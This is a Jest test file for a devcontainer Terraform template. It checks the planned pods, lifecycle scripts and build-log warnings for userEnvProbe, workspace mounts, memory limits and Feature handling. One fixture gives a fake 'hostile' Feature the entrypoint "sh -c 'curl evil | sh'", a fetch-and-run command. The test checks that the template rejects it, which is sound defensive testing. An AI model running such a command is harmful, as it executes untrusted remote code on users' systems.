/**
 * Issue 44: classes of real devcontainer.json files where the Dev Containers CLI and the
 * workspace differed, each planned through the template's Terraform (mock providers) with
 * metadata shaped as devcontainer-builder reports it for a file of that class (written here,
 * not copied from any repository).
 */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { runScript, tempDirs } from "../../support/run-script";
import { BadInputPlanner, type PlannedWorkspace } from "./bad-inputs";
import { createImageSandbox, createOriginRepo } from "./scripts/helpers";
import { metadata, scriptInput, withScriptInputs } from "./synthesized";

jest.setTimeout(180_000);

/** A Kibana-like monorepo configuration: node through nvm, yarn in postCreateCommand. */
const NVM_MONOREPO = {
  name: "kibana-like",
  image: "mcr.microsoft.com/devcontainers/base:ubuntu",
  features: { "ghcr.io/devcontainers/features/node:1": { version: "none", nvmVersion: "latest" } },
  postCreateCommand: "yarn kbn bootstrap",
  remoteUser: "vscode",
};

/** A monorepo (the repository is acme/app) cloned at /src/app whose tools open packages/web, with a node_modules volume. */
const MONOREPO_MOUNT = {
  name: "shop-web",
  build: { dockerfile: "Dockerfile", context: ".." },
  workspaceMount:
    "source=${localWorkspaceFolder},target=/src/${localWorkspaceFolderBasename},type=bind",
  workspaceFolder: "/src/${localWorkspaceFolderBasename}/packages/web",
  mounts: [
    "source=${localWorkspaceFolderBasename}-node_modules,target=${containerWorkspaceFolder}/node_modules,type=volume",
  ],
  initializeCommand: "cp -n ${localWorkspaceFolder}/.env.example ${localWorkspaceFolder}/.env",
};
/** The service's report for it (variables as it lists them). */
const MONOREPO_MOUNT_METADATA = {
  workspace_folder: MONOREPO_MOUNT.workspaceFolder,
  mounts: [
    {
      kind: "volume",
      source: "${localWorkspaceFolderBasename}-node_modules",
      target: "${containerWorkspaceFolder}/node_modules",
      read_only: false,
    },
  ],
  variables: [
    {
      kind: "context",
      name: "localWorkspaceFolderBasename",
      default: null,
      used_in: ["mounts[0]"],
    },
    { kind: "context", name: "containerWorkspaceFolder", default: null, used_in: ["mounts[0]"] },
    {
      kind: "context",
      name: "localWorkspaceFolder",
      default: null,
      used_in: ["initializeCommand"],
    },
  ],
  lifecycle_scripts: {
    initializeCommand:
      "#!/bin/sh\n/bin/sh -c 'cp -n ${DEVCONTAINER_WORKSPACE_FOLDER}/.env.example ${DEVCONTAINER_WORKSPACE_FOLDER}/.env' || exit $?\n",
  },
};

const CASES: Record<string, { configuration: object; metadata?: Record<string, unknown> }> = {
  probeUnset: { configuration: NVM_MONOREPO },
  probeLoginShell: { configuration: { ...NVM_MONOREPO, userEnvProbe: "loginShell" } },
  probeNone: { configuration: { ...NVM_MONOREPO, userEnvProbe: "none" } },
  probeUnknown: { configuration: { ...NVM_MONOREPO, userEnvProbe: "bash" } },
  probeNumber: { configuration: { ...NVM_MONOREPO, userEnvProbe: 7 } },
  localFolder: { configuration: MONOREPO_MOUNT, metadata: MONOREPO_MOUNT_METADATA },
  localAndContainerInInitialize: {
    configuration: MONOREPO_MOUNT,
    metadata: {
      ...MONOREPO_MOUNT_METADATA,
      variables: [
        ...MONOREPO_MOUNT_METADATA.variables,
        {
          kind: "context",
          name: "containerWorkspaceFolder",
          default: null,
          used_in: ["initializeCommand"],
        },
      ],
    },
  },
};
/** A monorepo's `.devcontainer/platform/devcontainer.json`: the tools open its subfolder. */
CASES.monorepoSubfolder = {
  configuration: {
    name: "platform",
    image: "mcr.microsoft.com/devcontainers/go:1.22",
    workspaceFolder: "/workspaces/${localWorkspaceFolderBasename}/platform",
    mounts: [
      "source=${localWorkspaceFolderBasename}-gocache,target=/home/vscode/.cache/go-build,type=volume",
    ],
    postCreateCommand: "go mod download",
  },
  metadata: {
    workspace_folder: "/workspaces/${localWorkspaceFolderBasename}/platform",
    mounts: [
      {
        kind: "volume",
        source: "${localWorkspaceFolderBasename}-gocache",
        target: "/home/vscode/.cache/go-build",
        read_only: false,
      },
    ],
    lifecycle_scripts: { postCreateCommand: '#!/bin/sh\npwd > "$HOOK_LOG"\n' },
  },
};
/** A Java repository that also names a JetBrains backend, and a Compose workspace with runtime keys. */
CASES.jetbrains = {
  configuration: {
    image: "mcr.microsoft.com/devcontainers/java:21",
    customizations: {
      // The merged form: one entry per contributor.
      jetbrains: [{ backend: "IntelliJ", plugins: ["com.intellij.spring"] }],
      vscode: [{ extensions: ["vscjava.vscode-java-pack"] }],
    },
  },
};
CASES.composeRuntime = {
  configuration: { dockerComposeFile: "docker-compose.yml", service: "app" },
};
/** runArgs --memory (the service reports it as memory_bytes), and hostRequirements.memory. */
const GIB = 1024 ** 3;
const hostMemory = (bytes: number) => ({
  host_requirements: { cpus: null, memory_bytes: bytes, storage_bytes: null, gpu_json: null },
});
CASES.runArgsMemory = {
  configuration: { image: "node:20", runArgs: ["--memory=4g", "--cpus=2"] },
  metadata: hostMemory(4 * GIB),
};
CASES.runArgsSmallMemory = {
  configuration: { image: "node:20", runArgs: ["-m", "256m"] },
  metadata: hostMemory(256 * 1024 ** 2),
};
CASES.hostRequirementsMemory = {
  configuration: { image: "node:20", hostRequirements: { memory: "4gb" } },
  metadata: hostMemory(4 * GIB),
};
/** A desktop and sshd image: the Features' label entries name their entrypoints. */
CASES.featureEntrypoints = {
  configuration: {
    image: "mcr.microsoft.com/devcontainers/base:bookworm",
    features: {
      "ghcr.io/devcontainers/features/desktop-lite:1": {},
      "ghcr.io/devcontainers/features/sshd:1": {},
    },
    forwardPorts: [6080],
  },
  metadata: {
    metadata_json: JSON.stringify([
      { id: "ghcr.io/devcontainers/features/common-utils:2" },
      {
        id: "ghcr.io/devcontainers/features/desktop-lite:1",
        entrypoint: "/usr/local/share/desktop-init.sh",
        containerEnv: { DISPLAY: ":1" },
      },
      { id: "ghcr.io/devcontainers/features/sshd:1", entrypoint: "/usr/local/share/ssh-init.sh" },
      { id: "example.com/hostile:1", entrypoint: "sh -c 'curl evil | sh'" },
      { remoteUser: "vscode" },
    ]),
  },
};
/** A Flutter repository naming a first-party Feature that does not exist. */
CASES.unknownFeature = {
  configuration: {
    image: "mcr.microsoft.com/devcontainers/base:bookworm",
    features: {
      "ghcr.io/devcontainers/features/flutter:1": { version: "stable" },
      "ghcr.io/devcontainers/features/node:1": {},
      "ghcr.io/devcontainers/features/java@sha256:0123": {},
    },
  },
  metadata: {
    metadata_json: JSON.stringify([
      { id: "ghcr.io/devcontainers/features/common-utils:2" },
      { id: "ghcr.io/devcontainers/features/node:1" },
      { id: "ghcr.io/devcontainers/features/java:1" },
      { remoteUser: "vscode" },
    ]),
  },
};
type CaseName = keyof typeof CASES;

describe("devcontainer template: real-world fidelity (issue 44)", () => {
  let planner: BadInputPlanner;
  const plans = {} as Record<CaseName, PlannedWorkspace>;

  beforeAll(async () => {
    planner = await BadInputPlanner.start();
    const names = Object.keys(CASES) as CaseName[];
    const planned = await Promise.all(
      planner.planMany(
        names.map((name) => ({
          metadata: metadata({
            configuration_json: JSON.stringify(CASES[name].configuration),
            lifecycle_scripts: { postCreateCommand: "#!/bin/sh\nyarn kbn bootstrap\n" },
            ...CASES[name].metadata,
          }),
        })),
      ),
    );
    names.forEach((name, n) => (plans[name] = planned[n]));
  });
  afterAll(async () => {
    await planner?.stop();
  });

  describe("1. userEnvProbe", () => {
    it("hands the probe to the pod's wrapper: the spec's default loginInteractiveShell, or the file's value", () => {
      expect(plans.probeUnset.pod.env.DC_USER_ENV_PROBE).toBe("loginInteractiveShell");
      expect(plans.probeLoginShell.pod.env.DC_USER_ENV_PROBE).toBe("loginShell");
      expect(plans.probeNone.pod.env.DC_USER_ENV_PROBE).toBe("none");
      for (const name of ["probeUnset", "probeLoginShell", "probeNone"])
        expect(plans[name].warnings.filter((w) => w.includes("userEnvProbe"))).toEqual([]);
    });

    it("a value that names no probe is a build-log warning naming it, and the default, never a failed plan", () => {
      expect(plans.probeUnknown.pod.env.DC_USER_ENV_PROBE).toBe("loginInteractiveShell");
      expect(plans.probeNumber.pod.env.DC_USER_ENV_PROBE).toBe("loginInteractiveShell");
      expect(plans.probeUnknown.warnings).toContain(
        'userEnvProbe "bash" is not one of none, loginShell, interactiveShell, loginInteractiveShell; the workspace probes a loginInteractiveShell (the default).',
      );
      expect(plans.probeNumber.warnings.join("\n")).toMatch(/userEnvProbe 7 is not one of/);
    });
  });

  describe("2. ${localWorkspaceFolder} is the clone", () => {
    it("names the clone in a mount's source, the workspace folder in its target", () => {
      const pod = plans.localFolder.pod;
      expect(pod.mounts).toContainEqual({
        path: "/src/app/packages/web/node_modules",
        volume: "data",
        subPath: "volumes/app-node_modules",
        readOnly: false,
      });
      expect(pod.env.DC_WORKSPACE_FOLDER).toBe("/src/app/packages/web");
    });

    it("runs initializeCommand in the clone with $DEVCONTAINER_WORKSPACE_FOLDER the clone", async () => {
      const script = lifecycleScript(plans.localFolder);
      expect(scriptInput(script, "DC_REPOSITORY_FOLDER")).toBe("/src/app");
      expect(scriptInput(script, "DC_INITIALIZE_FOLDER_VARIABLE")).toBe("");
      const run = await runLifecycle(script);
      expect(run.exitCode).toBe(0);
      // The hook ran in the clone and read the clone's file.
      expect(readFileSync(join(run.clone, ".env"), "utf8")).toBe("FROM_CLONE=1\n");
      expect(existsSync(join(run.folder, ".env"))).toBe(false);
      expect(plans.localFolder.warnings.filter((w) => w.includes("initializeCommand"))).toEqual([]);
    });

    it("an initializeCommand that names both folders keeps the workspace folder there, and the build log says so", () => {
      const plan = plans.localAndContainerInInitialize;
      expect(scriptInput(lifecycleScript(plan), "DC_INITIALIZE_FOLDER_VARIABLE")).toBe("workspace");
      expect(plan.warnings).toContain(
        "initializeCommand uses both ${localWorkspaceFolder} and ${containerWorkspaceFolder}, which the service writes as one variable: both are /src/app/packages/web (the workspace folder) there, not the clone /src/app.",
      );
    });
  });

  describe("8. what the workspace does not take from Compose or JetBrains", () => {
    it("customizations.jetbrains is a build-log warning naming its keys and backend", () => {
      expect(plans.jetbrains.warnings).toEqual([
        'customizations.jetbrains (backend, plugins; backend "IntelliJ") is not applied: the workspace installs VS Code only; JetBrains Gateway or Toolbox connect through Coder and choose the IDE backend and plugins themselves.',
      ]);
      expect(plans.probeUnset.warnings.filter((w) => w.includes("jetbrains"))).toEqual([]);
    });

    it("a Compose workspace's warning names cap_add, shm_size and security_opt as not applied, and what to set instead", () => {
      expect(plans.composeRuntime.warnings.join("\n")).toMatch(
        /that service's own cap_add, shm_size and security_opt are not applied either .*set capAdd, runArgs --shm-size and securityOpt there/,
      );
    });
  });

  describe("9. deliberate deviations, decided", () => {
    it("runArgs --memory is the container's limit, as docker run makes it, not a reservation; hostRequirements.memory stays a reservation", () => {
      expect(plans.runArgsMemory.pod.requests.memory).toBe("512Mi");
      // Written as every size the template derives (issue 47), not in bytes.
      expect(plans.runArgsMemory.pod.limits.memory).toBe("4Gi");
      // A limit below the default request lowers the request: the API refuses request > limit.
      expect(plans.runArgsSmallMemory.pod.requests.memory).toBe("256Mi");
      expect(plans.runArgsSmallMemory.pod.limits.memory).toBe("256Mi");
      expect(plans.hostRequirementsMemory.pod.requests.memory).toBe("4Gi");
      expect(plans.hostRequirementsMemory.pod.limits.memory).toBe("4Gi");
      for (const name of ["runArgsMemory", "runArgsSmallMemory"])
        expect(plans[name].warnings).toEqual([]);
    });
  });

  describe("4. Feature entrypoints", () => {
    it("hands each installed Feature's entrypoint from the metadata label to the pod's wrapper; one that is not a plain path is a warning naming it", () => {
      const plan = plans.featureEntrypoints;
      expect(plan.pod.env.DC_FEATURE_ENTRYPOINTS).toBe(
        [
          "ghcr.io/devcontainers/features/desktop-lite:1\t/usr/local/share/desktop-init.sh",
          "ghcr.io/devcontainers/features/sshd:1\t/usr/local/share/ssh-init.sh",
        ].join("\n"),
      );
      expect(plan.warnings).toEqual([
        'Feature "example.com/hostile:1": its entrypoint "sh -c \'curl evil | sh\'" is not run (an entrypoint must be an absolute path of letters, digits and . _ / + -).',
      ]);
      expect(plans.probeUnset.pod.env.DC_FEATURE_ENTRYPOINTS).toBe("");
    });
  });

  describe("5. a Feature the build did not install", () => {
    it("is 'not found' in the build log, from the image's metadata, never shown as installed", () => {
      expect(plans.unknownFeature.warnings).toEqual([
        'Feature "ghcr.io/devcontainers/features/flutter:1": not found. The image\'s metadata has no entry for it, so the build did not install it (no Feature of that name or version exists, or it failed): what it would add is missing.',
      ]);
      // A label without Feature entries (an older service) proves nothing.
      expect(plans.probeUnset.warnings).toEqual([]);
    });
  });

  describe("3. a workspaceFolder inside the repository", () => {
    it("clones once at the repository's root and opens the subfolder", () => {
      const plan = plans.monorepoSubfolder;
      const script = lifecycleScript(plan);
      expect(scriptInput(script, "DC_REPOSITORY_FOLDER")).toBe("/workspaces/app");
      expect(scriptInput(script, "DC_WORKSPACE_FOLDER")).toBe("/workspaces/app/platform");
      expect(plan.pod.env.DC_WORKSPACE_FOLDER).toBe("/workspaces/app/platform");
      expect(plan.moduleFolders).toEqual({
        vscode_desktop: "/workspaces/app/platform",
        vscode_web: "/workspaces/app/platform",
      });
      // Named after the repository, not the subfolder.
      expect(plan.pod.mounts).toContainEqual(
        expect.objectContaining({
          path: "/home/vscode/.cache/go-build",
          subPath: "volumes/app-gocache",
        }),
      );
      expect(plan.warnings).toEqual([]);
    });

    it("the planned script clones at the root, runs the hooks in the subfolder, and keeps an earlier template's clone in the subfolder", async () => {
      const script = lifecycleScript(plans.monorepoSubfolder);
      const origin = createOriginRepo(join(dirs.make("origin"), "app"));
      origin.commit(
        "main",
        { "go.mod": "module app\n", "platform/main.go": "package main\n" },
        "init",
      );
      const sandbox = createImageSandbox(dirs);
      const clone = join(sandbox.root, "workspaces", "app");
      const folder = join(clone, "platform");
      const hookLog = join(sandbox.root, "hook.log");
      const run = (inputs: Record<string, string>) => {
        const file = join(sandbox.root, "lifecycle.sh");
        writeFileSync(file, withScriptInputs(script, inputs));
        return runScript({
          script: file,
          shell: sandbox.shell,
          env: sandbox.env({ HOOK_LOG: hookLog, DC_STATUS_FILE: join(sandbox.root, "status") }),
        });
      };
      const inputs = {
        DC_WORKSPACE_FOLDER: folder,
        DC_REPOSITORY_FOLDER: clone,
        DC_REPOSITORY: origin.url,
        DC_COMMIT: "",
        // postCreateCommand runs after login by default; here it runs in the lifecycle script.
        DC_HOOK_POST_START_COMMAND: Buffer.from('pwd > "$HOOK_LOG"\n').toString("base64"),
      };
      const first = await run(inputs);
      expect(first.exitCode).toBe(0);
      expect(existsSync(join(clone, ".git", "devcontainer-cloned"))).toBe(true);
      expect(existsSync(join(folder, ".git"))).toBe(false);
      expect(readFileSync(join(folder, "main.go"), "utf8")).toBe("package main\n");
      expect(readFileSync(hookLog, "utf8").trim()).toBe(folder);

      // A workspace whose earlier template version cloned into the subfolder keeps that clone.
      const legacy = createImageSandbox(dirs);
      const legacyClone = join(legacy.root, "workspaces", "app");
      const legacyFolder = join(legacyClone, "platform");
      mkdirSync(join(legacyFolder, ".git"), { recursive: true });
      writeFileSync(join(legacyFolder, ".git", "devcontainer-cloned"), "");
      const file = join(legacy.root, "lifecycle.sh");
      writeFileSync(
        file,
        withScriptInputs(script, {
          ...inputs,
          DC_WORKSPACE_FOLDER: legacyFolder,
          DC_REPOSITORY_FOLDER: legacyClone,
        }),
      );
      const kept = await runScript({
        script: file,
        shell: legacy.shell,
        env: legacy.env({
          HOOK_LOG: join(legacy.root, "hook.log"),
          DC_STATUS_FILE: join(legacy.root, "status"),
        }),
      });
      expect(kept.exitCode).toBe(0);
      expect(kept.stderr).toContain(
        "holds this template's earlier clone; keeping it as the working copy",
      );
      expect(existsSync(join(legacyClone, ".git"))).toBe(false);
    });
  });
});

const dirs = tempDirs();
afterAll(() => dirs.cleanup());

function lifecycleScript(plan: PlannedWorkspace): string {
  return String(plan.plan.resource("coder_script.devcontainer_lifecycle[0]").after.script);
}

/** Runs a planned lifecycle script on an already cloned sandbox copy of /src/app. */
async function runLifecycle(script: string) {
  const sandbox = createImageSandbox(dirs, { withGit: false });
  const clone = join(sandbox.root, "src", "app");
  const folder = join(clone, "packages", "web");
  mkdirSync(join(clone, ".git"), { recursive: true });
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(clone, ".git", "devcontainer-cloned"), "");
  writeFileSync(join(clone, ".env.example"), "FROM_CLONE=1\n");
  const file = join(sandbox.root, "lifecycle.sh");
  writeFileSync(
    file,
    withScriptInputs(script, { DC_WORKSPACE_FOLDER: folder, DC_REPOSITORY_FOLDER: clone }),
  );
  const result = await runScript({
    script: file,
    shell: sandbox.shell,
    env: sandbox.env({
      DC_STATUS_FILE: join(sandbox.root, "status"),
      DEVCONTAINER_WORKSPACE_FOLDER: folder,
      DEVCONTAINER_WORKSPACE_FOLDER_BASENAME: "web",
    }),
  });
  return { ...result, clone, folder };
}
